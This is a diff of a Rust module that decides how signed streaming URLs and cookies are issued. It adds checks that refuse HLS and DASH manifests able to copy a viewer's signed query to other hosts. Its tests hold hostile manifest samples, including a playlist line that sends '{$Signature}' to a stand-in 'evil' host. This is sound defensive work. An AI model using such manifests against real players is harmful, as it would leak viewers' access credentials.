@@ -118,6 +118,17 @@ pub enum Fallback {
     ForeignHost,
     /// The tree's path has characters a cookie `Path` cannot carry safely.
     UnsafeCookiePath,
+    /// A child playlist would reach the player without the function (not
+    /// renamed, another host): it could import the declared variables.
+    ChildPlaylistDirect,
+    /// Content steering: a pathway clone moves URLs, query and all, to
+    /// another host.
+    ContentSteering,
+    /// Remote elements (`xlink:href`): their contents are not checked.
+    RemoteElements,
+    /// Configured cookies for a manifest at the distribution's root would
+    /// open the whole distribution.
+    TreeIsRoot,
 }
 
 impl Fallback {
@@ -131,6 +142,10 @@ impl Fallback {
             Self::PinningDiffers => "pinning_differs",
             Self::ForeignHost => "foreign_host",
             Self::UnsafeCookiePath => "unsafe_cookie_path",
+            Self::ChildPlaylistDirect => "child_playlist_direct",
+            Self::ContentSteering => "content_steering",
+            Self::RemoteElements => "remote_elements",
+            Self::TreeIsRoot => "tree_is_root",
         }
     }
 }
@@ -202,7 +217,11 @@ pub fn choose(
         Delivery::Cookies => {
             // Asked for by the viewer: only within its own grant. Configured
             // by the operator: the tree, as documented.
-            if covers || (configured == Delivery::Cookies && requested.is_none()) {
+            let opted_in = configured == Delivery::Cookies && requested.is_none();
+            if opted_in && !covers && is_root(tree) {
+                return rewrite(Fallback::TreeIsRoot);
+            }
+            if covers || opted_in {
                 Plan::IssueCookies {
                     resource: format!("{tree}*"),
                 }
@@ -216,6 +235,53 @@ pub fn choose(
     }
 }
 
+/// Whether the tree is the distribution's root (`https://host/`).
+fn is_root(tree: &str) -> bool {
+    let after_scheme = tree.find("://").map_or(0, |i| i + 3);
+    tree[after_scheme..].find('/') == Some(tree.len() - after_scheme - 1)
+}
+
+/// The signing parameters, as players' variable names (case-sensitive).
+const SIGNING_NAMES: [&str; 5] = [
+    "Policy",
+    "Signature",
+    "Expires",
+    "Key-Pair-Id",
+    "Hash-Algorithm",
+];
+
+/// Why a manifest from the origin must not be served at all, in any
+/// delivery: it tells the player to copy the query of a URL it fetched —
+/// which holds the viewer's grant — into URLs its author chose. In HLS, a
+/// variable named like a signing parameter (`{$Signature}`, or an
+/// `EXT-X-DEFINE` of that name: `QUERYPARAM` reads the viewer's own URL);
+/// in DASH, URL query instructions of its own (`urn:mpeg:dash:urlparam:`,
+/// which can send the MPD's query to segments, or to a steering server).
+pub fn refusal(format: ManifestFormat, manifest: &str) -> Option<&'static str> {
+    match format {
+        ManifestFormat::Hls => {
+            let named = SIGNING_NAMES.iter().any(|name| {
+                manifest.contains(&format!("{{${name}}}"))
+                    || manifest.lines().any(|line| {
+                        line.trim_start().starts_with("#EXT-X-DEFINE:")
+                            && ["NAME", "QUERYPARAM", "IMPORT"]
+                                .iter()
+                                .any(|key| line.contains(&format!("{key}=\"{name}\"")))
+                    })
+            });
+            named.then_some("uses a signing parameter's name as a variable")
+        }
+        ManifestFormat::Dash => manifest
+            .contains("urn:mpeg:dash:urlparam:")
+            .then_some("carries URL query instructions of its own"),
+    }
+}
+
+/// Whether an HLS playlist uses content steering.
+pub fn steers(manifest: &str) -> bool {
+    manifest.contains("#EXT-X-CONTENT-STEERING")
+}
+
 /// Whether the tree's URL can become a cookie `Path` as it is: nothing
 /// that ends or splits the attribute (`;`, `,`, spaces, quotes, controls).
 fn is_cookie_path(tree: &str) -> bool {
@@ -223,32 +289,34 @@ fn is_cookie_path(tree: &str) -> bool {
         .all(|b| b.is_ascii_graphic() && !matches!(b, b';' | b',' | b'"' | b'\\'))
 }
 
-/// Whether every URL the MPD names resolves to the MPD's own host: only
-/// then may a player copy the MPD's query (the viewer's grant) to them. A
-/// reference can change host only by being absolute or `//host…`, so
-/// resolving each value against the document's URL is enough.
-pub fn mpd_stays_on_its_host(mpd: &str, mpd_url: &str) -> bool {
-    let Ok(base) = AbsoluteUrl::parse(mpd_url) else {
-        return false;
+/// What keeps an MPD from the `urlquery` delivery, if anything: a player
+/// copies the MPD's query (the viewer's grant) to the URLs it requests, so
+/// every URL must resolve to the MPD's own host. A reference changes host
+/// only by being absolute or `//host…`, so resolving each value against
+/// the document's URL is enough. Remote elements (`xlink:href`) are merged
+/// by the player unchecked, and content steering clones pathways onto
+/// other hosts: both keep the MPD from it too.
+pub fn url_query_obstacle(mpd: &str, mpd_url: &str) -> Option<Fallback> {
+    let (Ok(base), Ok(found)) = (AbsoluteUrl::parse(mpd_url), crate::dash::scan::scan(mpd)) else {
+        return Some(Fallback::NotAllCovered);
     };
-    let Ok(found) = crate::dash::scan::scan(mpd) else {
-        return false;
-    };
-    found.slots.iter().all(|slot| {
+    if mpd.contains("ContentSteering") {
+        return Some(Fallback::ContentSteering);
+    }
+    if found
+        .slots
+        .iter()
+        .any(|slot| slot.kind == crate::dash::scan::SlotKind::XlinkHref)
+    {
+        return Some(Fallback::RemoteElements);
+    }
+    let on_host = found.slots.iter().all(|slot| {
         slot.value.trim().is_empty()
             || crate::uri::scheme_of(&slot.value)
                 .is_some_and(|scheme| scheme != "http" && scheme != "https")
             || uri::resolve(&base, slot.value.trim()).is_ok_and(|t| t.same_origin(&base))
-    })
-}
-
-/// Whether an HLS playlist refers to one of `names` itself (`{$Policy}`):
-/// declaring them would hand the viewer's grant to URIs the playlist's
-/// author chose, on any host.
-pub fn refers_to_variables(playlist: &str, names: &[&str]) -> bool {
-    names
-        .iter()
-        .any(|name| playlist.contains(&format!("{{${name}}}")))
+    });
+    (!on_host).then_some(Fallback::ForeignHost)
 }
 
 /// The signing parameters of a viewer's URL grant that differ per viewer
@@ -494,31 +562,67 @@ mod tests {
     }
 
     #[test]
-    fn foreign_hosts_and_variables_are_found() {
+    fn what_keeps_an_mpd_from_url_query() {
         let url = "https://d.net/v/stream._mpd?x=1";
         let on = "<MPD><BaseURL>a/</BaseURL><Period><AdaptationSet>\
                   <SegmentTemplate media=\"https://d.net/v/s-$Number$.m4s\"/>\
                   </AdaptationSet></Period></MPD>";
-        assert!(mpd_stays_on_its_host(on, url));
-        for foreign in [
-            "<MPD><BaseURL>https://cdn.example/</BaseURL></MPD>",
-            "<MPD><BaseURL>a/</BaseURL><BaseURL>//cdn.example/a/</BaseURL></MPD>",
-            "<MPD><Period><SegmentList><SegmentURL media=\"http://d.net/v/a.m4s\"/>\
-             </SegmentList></Period></MPD>",
-            "<MPD><Period xlink:href=\"https://evil.example/p.xml\"/></MPD>",
-            "<MPD><BaseURL>",
+        assert_eq!(url_query_obstacle(on, url), None);
+        for (mpd, why) in [
+            (
+                "<MPD><BaseURL>https://cdn.example/</BaseURL></MPD>",
+                Fallback::ForeignHost,
+            ),
+            (
+                "<MPD><BaseURL>a/</BaseURL><BaseURL>//cdn.example/a/</BaseURL></MPD>",
+                Fallback::ForeignHost,
+            ),
+            (
+                "<MPD><Period><SegmentList><SegmentURL media=\"http://d.net/v/a.m4s\"/>\
+                 </SegmentList></Period></MPD>",
+                Fallback::ForeignHost,
+            ),
+            (
+                "<MPD><Period xlink:href=\"https://d.net/v/p.xml\"/></MPD>",
+                Fallback::RemoteElements,
+            ),
+            (
+                "<MPD><ContentSteering>https://d.net/steer</ContentSteering></MPD>",
+                Fallback::ContentSteering,
+            ),
+            ("<MPD><BaseURL>", Fallback::NotAllCovered),
         ] {
-            assert!(!mpd_stays_on_its_host(foreign, url), "{foreign}");
+            assert_eq!(url_query_obstacle(mpd, url), Some(why), "{mpd}");
         }
-        let names = ["Policy", "Signature"];
-        assert!(refers_to_variables(
+    }
+
+    #[test]
+    fn manifests_that_would_copy_the_viewers_query_are_refused() {
+        use ManifestFormat::{Dash, Hls};
+        for hostile in [
             "#EXTM3U\nhttps://evil/x?s={$Signature}\n",
-            &names
-        ));
-        assert!(!refers_to_variables(
-            "#EXTM3U\n#EXT-X-DEFINE:NAME=\"a\"\n{$a}.ts\n",
-            &names
-        ));
+            "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"Policy\"\n",
+            "#EXTM3U\n#EXT-X-DEFINE:IMPORT=\"Key-Pair-Id\"\n",
+            "#EXTM3U\n  #EXT-X-DEFINE:NAME=\"Expires\",VALUE=\"1\"\n",
+        ] {
+            assert!(refusal(Hls, hostile).is_some(), "{hostile}");
+        }
+        assert_eq!(
+            refusal(
+                Hls,
+                "#EXTM3U\n#EXT-X-DEFINE:NAME=\"a\",VALUE=\"b\"\n{$a}.ts\n"
+            ),
+            None
+        );
+        let own = "<MPD><SupplementalProperty schemeIdUri=\"urn:mpeg:dash:urlparam:2016\"/></MPD>";
+        assert!(refusal(Dash, own).is_some());
+        assert_eq!(refusal(Dash, "<MPD/>"), None);
+    }
+
+    #[test]
+    fn configured_cookies_never_open_the_root() {
+        assert!(is_root("https://d.net/"));
+        assert!(!is_root("https://d.net/v/"));
     }
 
     #[test]
